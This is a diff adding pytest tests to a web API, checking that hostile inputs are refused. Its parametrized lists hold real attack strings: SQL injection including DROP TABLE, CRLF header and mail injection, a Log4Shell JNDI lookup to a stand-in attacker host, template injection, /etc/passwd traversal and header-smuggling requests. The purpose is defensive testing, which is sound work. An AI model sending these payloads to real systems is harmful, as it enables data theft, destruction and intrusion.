@@ -1,6 +1,7 @@
 """What comes from outside and is wrong: refused clearly, and the process lives."""
 
 import asyncio
+import json
 from typing import Any
 
 import httpx
@@ -8,6 +9,7 @@ import pytest
 from litestar.exceptions import HTTPException
 from structlog.testing import capture_logs
 from support.api import V1, Api
+from support.callers import make_callers
 from support.house import PASSWORD
 
 from core.errors import StorageUnavailable
@@ -226,3 +228,108 @@ async def test_a_websocket_handshake_at_the_wrong_door_is_an_ordinary_request(ap
         b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
     )
     assert (await api.raw(request)).startswith(b"HTTP/1.1 404 ")
+
+
+INJECTIONS = [
+    "' OR '1'='1",
+    "'; DROP TABLE account; --",
+    "%' OR email LIKE '%",
+    "\\'; SELECT pg_sleep(10); --",
+    "x\r\nSet-Cookie: evil=1",
+    "x\nBcc: everybody@example.com",
+    "${jndi:ldap://evil.example}",
+    "{{7*7}}",
+    "../../../../etc/passwd",
+    "\u202egnp.exe",
+    "\ufeff",
+    "x\u0000y",
+]
+
+
+@pytest.mark.parametrize("text", INJECTIONS)
+async def test_what_is_code_elsewhere_is_text_here(api: Api, text: str) -> None:
+    session = await api.sign_in()
+    token = session["access_token"]
+    callers = await make_callers(api.house)
+    found = await api.client.get(
+        f"{V1}/admin/users",
+        params={"q": text},
+        headers={"Authorization": f"Bearer {callers.token('support')}"},
+    )
+    assert found.status_code in {200, 400}
+    assert found.json().get("items", []) == []
+    for body in ({"display_name": text}, {"locale": text}, {"time_zone": text}):
+        answer = await api.call("PATCH", "/me", body, token=token)
+        assert answer.status_code in {200, 400}, answer.text
+        assert "evil" not in answer.headers
+        assert "set-cookie" not in answer.headers
+    for path in ("/nodes", "/auth/sessions"):
+        answer = await api.client.get(
+            V1 + path, params={"cursor": text}, headers={"Authorization": f"Bearer {token}"}
+        )
+        assert_problem(answer, 400, "invalid_input")
+    login = await api.call("POST", "/auth/login", {"email": text, "password": text})
+    assert login.status_code in {400, 401}
+    assert (await api.call("GET", "/me", token=token)).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        b"X-Request-Id: good-id-1\rEvil: 1",
+        b"X-Request-Id: good-id-1\x00",
+        b"X-Request-Id : good-id-1",
+        b" X-Request-Id: good-id-1",
+        b"X-Forwarded-For: 203.0.113.9\n Evil: 1",
+    ],
+)
+async def test_a_header_that_tries_to_be_two_brings_none_into_the_answer(api: Api, header: bytes) -> None:
+    answer = await api.raw(
+        b"GET /api/v1/client HTTP/1.1\r\nHost: x\r\n" + header + b"\r\nConnection: close\r\n\r\n"
+    )
+    assert b"\nevil" not in answer.lower()
+    assert answer.startswith((b"HTTP/1.1 200 ", b"HTTP/1.1 400 "))
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "body"),
+    [
+        ("POST", "/auth/login", []),
+        ("POST", "/auth/login", None),
+        ("POST", "/auth/login", "text"),
+        ("POST", "/auth/login", {"email": ["a"], "password": {}}),
+        ("POST", "/auth/login", {"email": None, "password": None}),
+        ("POST", "/auth/login", {"email": "a@example.com"}),
+        ("POST", "/auth/login", {"email": "a@example.com", "password": "x", "cookie": "yes"}),
+        ("POST", "/auth/login", {"email": "a@example.com", "password": "x", "cookie": 1}),
+        ("POST", "/nodes/token", {"node_id": "x", "time_ms": 1, "signature": ""}),
+        ("POST", "/nodes/token", {"node_id": None, "time_ms": 1, "signature": ""}),
+        ("POST", "/nodes/token", {"node_id": "0" * 32, "time_ms": 1e400, "signature": ""}),
+        ("POST", "/nodes/token", {"node_id": "0" * 32, "time_ms": "1", "signature": ""}),
+        ("POST", "/nodes/token", {"node_id": "0" * 32, "time_ms": 1, "signature": "not base64!"}),
+        ("PATCH", "/me", {"display_name": 1}),
+        ("PATCH", "/me", {"role": "operator"}),
+        ("PATCH", "/me", {"email": "new@example.com"}),
+        ("PUT", "/me/password", {"current": PASSWORD, "new": [PASSWORD]}),
+    ],
+)
+async def test_a_body_of_another_shape_names_what_is_wrong(
+    api: Api, method: str, path: str, body: Any
+) -> None:
+    token = (await api.sign_in())["access_token"]
+    content = json.dumps(body).replace("Infinity", "1e400").encode()
+    answer = await api.client.request(
+        method, V1 + path, content=content, headers={**JSON, "Authorization": f"Bearer {token}"}
+    )
+    assert answer.status_code == 400, answer.text
+    assert_problem(answer, 400, answer.json()["code"])
+    assert answer.json()["code"] in {"invalid_input", "invalid_json"}
+
+
+@pytest.mark.parametrize("limit", ["0", "-1", "201", "1e9", "x", "", "9" * 400, "1 OR 1=1", "null"])
+async def test_a_limit_that_is_none(api: Api, limit: str) -> None:
+    token = (await api.sign_in())["access_token"]
+    answer = await api.client.get(
+        f"{V1}/nodes", params={"limit": limit}, headers={"Authorization": f"Bearer {token}"}
+    )
+    assert assert_problem(answer, 400, "invalid_input")["field"] == "limit"
